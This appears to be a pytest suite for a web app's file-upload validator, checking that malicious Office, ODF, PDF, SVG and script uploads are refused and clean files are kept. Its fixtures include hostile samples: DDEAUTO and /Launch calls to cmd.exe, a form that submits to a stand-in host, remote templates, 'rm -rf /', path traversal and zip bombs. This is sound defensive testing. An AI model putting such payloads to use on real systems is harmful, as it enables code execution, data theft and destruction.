"""Uploads: what is taken is clean and comes back as an attachment; what isn't is named with a remedy."""

import hashlib
import io
import os
import socket
import struct
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from PIL import Image

from tests.records import uploads


@pytest.fixture
def home(db: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty home to keep files in."""
    monkeypatch.setenv("DIFANG_HOME", str(tmp_path))
    return tmp_path


def _store(content: bytes, name: str = "檔案.bin", subject: int = 1):
    from difang.records import files

    return files.store(
        owner=None, subject_type="plan", subject_id=subject, name=name, stream=io.BytesIO(content)
    )


def _kept(home: Path) -> list[Path]:
    return sorted(path for path in (home / "files").rglob("*") if path.is_file())


GOOD = {
    "報告.pdf": (
        uploads.pdf(b"3 0 obj << /S /URI /URI (https://a.tw) >> endobj", b"/OpenAction [2 0 R /Fit]"), "application/pdf",
    ),
    "計畫.docx": (
        uploads.docx({
            "word/_rels/document.xml.rels": uploads.relations("hyperlink", "https://a.tw"),
            "word/document.xml": uploads.document(
                uploads.field(' HYPERLINK "https://a.tw" ') + uploads.field(" PAGE ") + uploads.field(" IF ", "{ DATE }")
            ),
            "word/media/image1.png": uploads.photo("PNG"),
            "word/printerSettings/printerSettings1.bin": "HP LaserJet".encode("utf-16-le"),
            "word/settings.xml": '\ufeff<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16-le"),
            "docProps/empty.xml": "",
        }),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "簡報.pptx": (
        uploads.package({
            "[Content_Types].xml": uploads.OOXML_TYPES.format(""),
            "ppt/presentation.xml": "<p/>",
            "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": uploads.package(
                {"[Content_Types].xml": uploads.OOXML_TYPES.format(""), "xl/workbook.xml": "<x/>"}
            ),
        }),
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    "預算.xlsx": (
        uploads.package({
            "[Content_Types].xml": uploads.OOXML_TYPES.format(""), "xl/workbook.xml": "<x/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": uploads.relations("externalLinkPath", "file:///C:/預算.xlsx"),
            "xl/drawings/vmlDrawing1.vml": '<xml xmlns:v="urn:v"><v:fill src="media/a.png"><br></v:fill></xml>',
        }),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "計畫.odt": (
        uploads.odt({
            "content.xml": uploads.odf_content(
                '<text:a xlink:href="https://a.tw">a</text:a><draw:image xlink:href="Pictures/a.png"/>'
            ),
            "Pictures/a.png": uploads.photo("PNG"), "layout-cache": b"\1\2", "Configurations2/images/": "",
            "Configurations2/accelerator/current.xml": "",
        }),
        "application/vnd.oasis.opendocument.text"),
    "名單.csv": ("\ufeff姓名,村里\n某甲,水里\n".encode(), "text/csv"),
    "說明.txt": ("一段話\n".encode(), "text/plain"),
}  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_papers_are_kept_as_they_are(home: Path, name: str) -> None:
    content, media_type = GOOD[name]
    file = _store(content, name)
    assert (file.name, file.media_type, file.size, file.scanned) == (
        name,
        media_type,
        len(content),
        "not scanned",
    )
    assert file.sha256 == hashlib.sha256(content).hexdigest()
    (path,) = _kept(home)
    assert path == home / "files" / file.sha256[:2] / file.sha256
    assert path.read_bytes() == content


def _entity_docx() -> bytes:
    return uploads.docx({"word/styles.xml": '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>'})


def _template_docx() -> bytes:
    return uploads.docx(
        {"word/_rels/settings.xml.rels": uploads.relations("attachedTemplate", "http://bad.tw/x.dotm")}
    )


def _hidden(part: str, text: str, code: str = "utf-16") -> bytes:
    return uploads.docx({part: text.encode(code)})


def _worded(*fields: str) -> bytes:
    return uploads.docx({"word/document.xml": uploads.document("".join(fields))})


def _sheet(part: str, content: bytes | str) -> bytes:
    types = uploads.OOXML_TYPES.format("")
    return uploads.package({"[Content_Types].xml": types, "xl/workbook.xml": "<x/>", part: content})


SETTINGS = "word/_rels/settings.xml.rels"
TYPES = "[Content_Types].xml"
MACRO_TYPE = uploads.OOXML_TYPES.format(uploads.override("word.document.macroEnabled.main+xml"))
# Written as nobody writes it who doesn't hide it: each was taken while parts were searched for bytes.
HIDDEN = {
    "macro type in utf-16": (
        uploads.docx({TYPES: MACRO_TYPE.encode("utf-16"), "word/foo.bin": b"\1\2"}), "a.docx", "macros",
    ),
    "macro type in big-endian utf-16": (
        uploads.docx({TYPES: b"\xfe\xff" + MACRO_TYPE.encode("utf-16-be")}), "a.docx", "macros",
    ),
    "macro type by references": (
        uploads.docx({TYPES: MACRO_TYPE.replace("macroEnabled", "macro&#69;nabled")}), "a.docx", "macros",
    ),
    "a part of no known kind": (uploads.docx({"word/foo.bin": b"\1\2"}), "a.docx", "carried inside"),
    "macros under another case": (uploads.docx({"word\\VBAPROJECT.BIN": b"\1"}), "a.docx", "macros"),
    "a part given twice": (uploads.docx({"word/DOCUMENT.xml": uploads.document()}), "a.docx", "carried inside"),
    "template in utf-16": (
        _hidden(SETTINGS, uploads.relations("attachedTemplate", "http://bad.tw/x.dotm")), "a.docx", "loaded from elsewhere",
    ),
    "template in utf-16 without a mark": (
        _hidden(SETTINGS, uploads.relations(
            "attachedTemplate", "http://bad.tw/x.dotm", prologue='<?xml version="1.0"?>'), "utf-16-le"),
        "a.docx", "loaded from elsewhere",
    ),
    "template by references": (
        uploads.docx({SETTINGS: uploads.relations("&#97;ttachedTemplate", "http://bad.tw/x", mode="Ext&#x65;rnal")}),
        "a.docx", "loaded from elsewhere",
    ),
    "template by an entity": (
        _hidden(SETTINGS, uploads.relations(
            "&t;", "http://bad.tw/x", prologue='<!DOCTYPE a [<!ENTITY t "attachedTemplate">]>')),
        "a.docx", "XML declarations",
    ),
    "template by a default": (
        uploads.docx({SETTINGS: uploads.relations("hyperlink", "http://bad.tw/x", prologue=(
            '<!DOCTYPE a [<!ATTLIST Relationship TargetMode CDATA "External">]>'))}),
        "a.docx", "XML declarations",
    ),
    "another encoding": (
        _hidden(SETTINGS, '<?xml version="1.0" encoding="iso-8859-1"?><a/>', "ascii"), "a.docx", "XML declarations",
    ),
    "dde": (_worded(uploads.field(' DDEAUTO c:\\\\cmd.exe "/k calc" ')), "a.docx", "start other programs"),
    "dde in many runs": (_worded(uploads.field(" D", "DEA", "UTO c:\\\\a ")), "a.docx", "start other programs"),
    "dde by a field": (_worded(uploads.field("{ QUOTE 68 68 69 }", " c:\\\\a")), "a.docx", "start other programs"),
    "simple dde": (_worded('<w:fldSimple w:instr="dde a b"/>'), "a.docx", "start other programs"),
    "dde in a sheet": (_sheet("xl/externalLinks/externalLink1.xml", '<a><ddeLink ddeService="cmd"/></a>'), "a.xlsx",
        "start other programs"),
    "a text from elsewhere": (_worded(uploads.field(' INCLUDETEXT "http://bad.tw/x" ')), "a.docx", "loaded from elsewhere"),
    "a picture of a field": (
        _worded(uploads.field(' INCLUDEPICTURE "\\\\\\\\bad.tw\\\\x.png" ')), "a.docx", "loaded from elsewhere",
    ),
    "a picture from elsewhere": (
        uploads.docx({"word/_rels/document.xml.rels": uploads.relations("image", "http://bad.tw/x.png")}),
        "a.docx", "loaded from elsewhere",
    ),
    "a table from a share": (
        _sheet("xl/externalLinks/_rels/a.xml.rels", uploads.relations("externalLinkPath", "file:///\\\\bad.tw\\x.xlsx")),
        "a.xlsx", "loaded from elsewhere",
    ),
    "a formula that fetches": (
        _sheet("xl/worksheets/sheet1.xml", "<s><f>_xlfn.WEBSERVICE(A1)</f></s>"), "a.xlsx", "loaded from elsewhere",
    ),
    "a query": (_sheet("xl/connections.xml", '<c><webPr url="http://bad.tw"/></c>'), "a.xlsx", "loaded from elsewhere"),
    "a drawing from elsewhere": (
        _sheet("xl/drawings/a.vml", '<xml><v:imagedata o:title="" src="//bad.tw/x.png"><br></xml>'), "a.xlsx",
        "loaded from elsewhere",
    ),
    "a slide that starts a program": (
        uploads.package({TYPES: uploads.OOXML_TYPES.format(""),
            "ppt/slides/slide1.xml": '<a><hlinkClick action="ppaction://program?name=cmd"/></a>'}),
        "a.pptx", "start other programs",
    ),
    "an archive behind a byte": (
        uploads.docx({"word/embeddings/a.xlsx": b"\0" + uploads.package({"a": "a"})}), "a.docx", "carried inside",
    ),
    "an archive behind a picture": (
        uploads.docx({"word/media/a.png": uploads.photo("PNG") + uploads.package({"a": "a"})}), "a.docx", "carried inside",
    ),
    "words under the name of a picture": (
        uploads.docx({"word/media/a.png": uploads.document().encode("utf-16")}), "a.docx", "carried inside",
    ),
    "a page as a chunk": (uploads.docx({"word/afchunk.mht": "MIME-Version: 1.0"}), "a.docx", "carried inside"),
    "no xml": (uploads.docx({"word/styles.xml": "<a>"}), "a.docx", "damaged"),
    "a picture from elsewhere in odt": (
        uploads.odt({"content.xml": uploads.odf_content('<draw:image xlink:href="http://bad.tw/x.png"/>')}), "a.odt",
        "loaded from elsewhere",
    ),
    "a script called from odt": (
        uploads.odt({"content.xml": uploads.odf_content(
            '<script:event-listener xlink:href="vnd.sun.star.script:a.py?language=Python"/>').encode("utf-16")}),
        "a.odt", "macros",
    ),
    "sending pdf": (
        uploads.pdf(b"3 0 obj << /S /SubmitForm /F (http://bad.tw) >> endobj", b"/OpenAction 3 0 R"), "a.pdf", "sends data",
    ),
    "pdf that opens a share": (
        uploads.pdf(b"3 0 obj << /S /GoToR /F (\\\\\\\\bad.tw\\\\x.pdf) /D [0] >> endobj", b"/OpenAction 3 0 R"), "a.pdf",
        "opens other files",
    ),
    "pdf that opens what it carries": (uploads.pdf(b"3 0 obj << /S /GoTo#45 >> endobj"), "a.pdf", "opens other files"),
    "importing pdf": (uploads.pdf(uploads.packed_object(b"3 0 << /S /ImportData >>")), "a.pdf", "reads other files"),
}  # fmt: skip


BAD = {
    "empty": (b"", "a.pdf", "is empty"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "logo.png", "an SVG drawing"),
    "svg with a prologue": (b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- a -->\n<svg/>', "logo.txt", "an SVG drawing"),
    "html": (b"  <!doctype html><script>alert(1)</script>", "a.txt", "an HTML page"),
    "xml": (b'<?xml version="1.0"?><a/>', "a.csv", "an XML file"),
    "windows program": (b"MZ\x90\0" + b"\0" * 80, "photo.jpg", "a Windows program"),
    "linux program": (b"\x7fELF\x02" + b"\0" * 80, "a.pdf", "a Linux program"),
    "script": (b"#!/bin/sh\nrm -rf /\n", "a.txt", "a script"),
    "unknown": (b"\x01\x02\x03\x04" * 20, "a.bin", "a kind not known here"),
    "text of an unknown kind": (b"import os", "a.py", "a kind not known here"),
    "zip": (uploads.package({"a.txt": "a"}), "a.zip", "an archive"),
    "rar": (b"Rar!\x1a\x07\0" + b"\0" * 50, "a.docx", "an archive"),
    "gif": (b"GIF89a" + b"\0" * 50, "a.png", "a GIF picture"),
    "heic": (b"\0\0\0\x18ftypheic" + b"\0" * 50, "IMG_1.HEIC", "HEIC"),
    "damaged photo": (uploads.photo()[:900], "a.jpg", "damaged"),
    "huge photo": (uploads.huge_png(), "a.png", "too many pixels"),
    "encrypted pdf": (uploads.pdf(trailer=b"/Encrypt 9 0 R"), "a.pdf", "encrypted"),
    "javascript pdf": (uploads.pdf(b"3 0 obj << /S /JavaScript /JS (app.alert) >> endobj"), "a.pdf", "JavaScript"),
    "pdf with a spelled name": (uploads.pdf(b"3 0 obj << /S /Java#53cript >> endobj"), "a.pdf", "JavaScript"),
    "pdf with a packed script": (uploads.pdf(uploads.packed_object(b"3 0 << /S /JavaScript >>")), "a.pdf", "JavaScript"),
    "pdf with unread objects": (
        uploads.pdf(uploads.packed_object(b"", b"[/ASCIIHexDecode /FlateDecode]")), "a.pdf", "can't be read",
    ),
    "launching pdf": (uploads.pdf(b"3 0 obj << /S /Launch /F (cmd.exe) >> endobj"), "a.pdf", "starts other programs"),
    "pdf with a file": (uploads.pdf(b"3 0 obj << /Type /EmbeddedFile >> endobj"), "a.pdf", "files carried inside"),
    "pdf bomb": (uploads.pdf(uploads.packed_object(b" " * 210_000_000)), "a.pdf", "too large when unpacked"),
    "cut pdf": (uploads.pdf()[:60], "a.pdf", "incomplete"),
    "macro docx": (uploads.docx({"word/vbaProject.bin": b"\0"}), "a.docx", "macros"),
    "macro by type": (uploads.docx(types=uploads.override("word.document.macroEnabled.main+xml")), "a.docx", "macros"),
    "macro odt": (uploads.odt({"Basic/Standard/Module1.xml": "<m/>"}), "a.odt", "macros"),
    "script odt": (uploads.odt({"Scripts/python/a.py": "a"}), "a.odt", "macros"),
    "encrypted odt": (uploads.odt(manifest='<encryption-data xmlns="urn:m"/>'), "a.odt", "password"),
    "encrypted docx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "a.docx", "password"),
    "old word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 50, "a.doc", "an old Office file"),
    "archive in docx": (uploads.docx({"word/media/a.png": uploads.package({"a": "a"})}), "a.docx", "carried inside"),
    "object in docx": (
        uploads.docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 9}), "a.docx", "carried inside",
    ),
    "program in docx": (uploads.docx({"word/media/a.png": b"MZ\x90\0"}), "a.docx", "carried inside"),
    "macro in the data of a chart": (
        uploads.docx({"word/embeddings/a.xlsx": uploads.package({"[Content_Types].xml": "", "xl/vbaProject.bin": "a"})}),
        "a.docx", "macros",
    ),
    "template from elsewhere": (_template_docx(), "a.docx", "loaded from elsewhere"),
    "entities": (_entity_docx(), "a.docx", "XML declarations"),
    "zip bomb": (uploads.bomb(), "a.docx", "a zip bomb"),
    "lying zip bomb": (uploads.lying_bomb(), "a.docx", "damaged"),
    "cut docx": (uploads.docx()[:-30], "a.docx", "damaged"),
    "big5": ("姓名,村里".encode("big5"), "a.csv", "isn't UTF-8"),
    "control characters": (b"a\x07b", "a.txt", "more than text"),
    "too large": (b"a" * 20_000_001, "a.txt", "over 20 MB"),
}  # fmt: skip


@pytest.mark.parametrize("case", [*BAD, *HIDDEN])
def test_a_bad_upload_is_refused_in_words_and_leaves_nothing(home: Path, case: str) -> None:
    from difang.records.files import RefusedFileError
    from difang.records.models import File

    content, name, words = (BAD | HIDDEN)[case]
    with pytest.raises(RefusedFileError) as refused:
        _store(content, name)
    text = refused.value.text
    assert words in text.en
    assert name in text.en and name in text.zh
    assert (_kept(home), File.objects.count()) == ([], 0)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_photo_keeps_its_picture_and_loses_its_place(home: Path, kind: str) -> None:
    content = uploads.photo(kind)
    with Image.open(io.BytesIO(content)) as before:
        assert before.getexif().get_ifd(0x8825)
    file = _store(content, "廟埕.jpg")
    (path,) = _kept(home)
    kept = path.read_bytes()
    with Image.open(path) as after:
        assert (after.format, after.size, dict(after.getexif())) == (kind, (640, 480), {})
        red, _, blue = after.convert("RGB").getpixel((600, 400))
        assert red > 150 > blue
    assert not any(mark in kept for mark in (b"SpyCam", b"Exif", b"eXIf", b"at home"))
    assert file.name == {"JPEG": "廟埕.jpg", "PNG": "廟埕.png", "WEBP": "廟埕.webp"}[kind]


def test_a_photo_held_upright_stays_upright(home: Path) -> None:
    _store(uploads.photo(turned=True), "a.jpg")
    with Image.open(_kept(home)[0]) as after:
        assert after.size == (480, 640)


def test_what_follows_a_picture_is_left_behind(home: Path) -> None:
    _store(uploads.photo() + b"PK\x03\x04<script>alert(1)</script>", "a.jpg")
    assert b"script" not in _kept(home)[0].read_bytes()


@pytest.mark.parametrize(
    ("told", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\我\\報告.txt", "報告.txt"),
        ("invoice\u202exe.txt", "invoicexe.txt"),
        ("假的.exe.txt", "假的.exe.txt"),
        ('a"\r\nb.txt', "a_b.txt"),
        ("字" * 300 + ".txt", "字" * 120 + ".txt"),
    ],
)
def test_a_name_is_made_fit(home: Path, told: str, kept: str) -> None:
    assert _store(b"a", told).name == kept


def test_the_same_content_lies_on_disk_once(home: Path) -> None:
    first, second = _store(b"a", "a.txt", 1), _store(b"a", "b.txt", 2)
    assert (first.sha256, len(_kept(home))) == (second.sha256, 1)


def test_content_goes_a_day_after_its_last_row(home: Path) -> None:
    from difang.records import files

    first, second = _store(b"a", "a.txt", 1), _store(b"a", "b.txt", 2)
    (path,) = _kept(home)
    os.utime(path, (1, 1))
    files.remove(first)
    assert (files.sweep(), path.exists()) == (0, True)
    files.remove(second)
    os.utime(path)
    assert (files.sweep(), path.exists()) == (0, True)
    assert (files.sweep(time.time() + 90_000), path.exists()) == (1, False)


def test_a_row_that_is_rolled_back_leaves_only_what_the_sweep_finds(home: Path) -> None:
    from django.db import transaction

    from difang.records import files

    with pytest.raises(RuntimeError, match="no"), transaction.atomic():
        _store(b"a", "a.txt")
        raise RuntimeError("no")
    assert files.sweep(time.time() + 90_000) == 1
    assert _kept(home) == []


def test_a_file_comes_back_as_an_attachment_that_runs_nothing(home: Path) -> None:
    from difang.records import files

    answer = files.serve(_store("姓名\n".encode(), "名單.csv"))
    assert b"".join(answer.streaming_content) == "姓名\n".encode()
    assert {
        name: answer[name]
        for name in (
            "Content-Disposition",
            "Content-Type",
            "X-Content-Type-Options",
            "Content-Security-Policy",
        )
    } == {
        "Content-Disposition": "attachment; filename*=utf-8''%E5%90%8D%E5%96%AE.csv",
        "Content-Type": "text/csv",
        "X-Content-Type-Options": "nosniff",
        "Content-Security-Policy": "default-src 'none'; sandbox",
    }


def test_content_that_is_gone_is_a_fault_in_words(home: Path) -> None:
    from difang.errors import MissingDataError
    from difang.records import files

    file = _store(b"a", "a.txt")
    _kept(home)[0].unlink()
    with pytest.raises(MissingDataError, match=r"a\.txt"):
        files.serve(file)


@contextmanager
def _clamd(path: Path, answer: bytes) -> Iterator[list[bytes]]:
    """A scanner that speaks the protocol and gives one answer."""
    got: list[bytes] = []

    def serve() -> None:
        peer, _ = listener.accept()
        with peer, peer.makefile("rb") as stream:
            assert stream.read(10) == b"zINSTREAM\0"
            while size := struct.unpack("!L", stream.read(4))[0]:
                got.append(stream.read(size))
            peer.sendall(answer)

    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))
        listener.listen()
        thread = threading.Thread(target=serve)
        thread.start()
        yield got
        thread.join(10)


@pytest.fixture
def scanner(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where an attached scanner listens."""
    from django.conf import settings

    monkeypatch.setattr(settings, "SCANNER", str(home / "clamd"))
    return home / "clamd"


def test_an_attached_scanner_sees_everything_and_is_named_in_the_row(scanner: Path) -> None:
    content = b"word " * 40_000
    with _clamd(scanner, b"stream: OK\0") as got:
        assert _store(content, "a.txt").scanned == "clean"
    assert (b"".join(got), len(got)) == (content, 4)


def test_what_the_scanner_names_is_refused(scanner: Path, home: Path) -> None:
    from difang.records.files import RefusedFileError

    with (
        _clamd(scanner, b"stream: Win.Test.EICAR_HDB-1 FOUND\0"),
        pytest.raises(RefusedFileError, match="EICAR"),
    ):
        _store(b"a", "a.txt")
    assert not (home / "files").exists()


@pytest.mark.parametrize("answer", [None, b"INSTREAM size limit exceeded. ERROR\0", b""])
def test_a_scanner_that_does_not_answer_lets_nothing_in(
    scanner: Path, home: Path, answer: bytes | None
) -> None:
    from difang.records.files.scanner import ScannerError

    if answer is None:
        with pytest.raises(ScannerError):
            _store(b"a", "a.txt")
    else:
        with _clamd(scanner, answer), pytest.raises(ScannerError):
            _store(b"a", "a.txt")
    assert not (home / "files").exists()
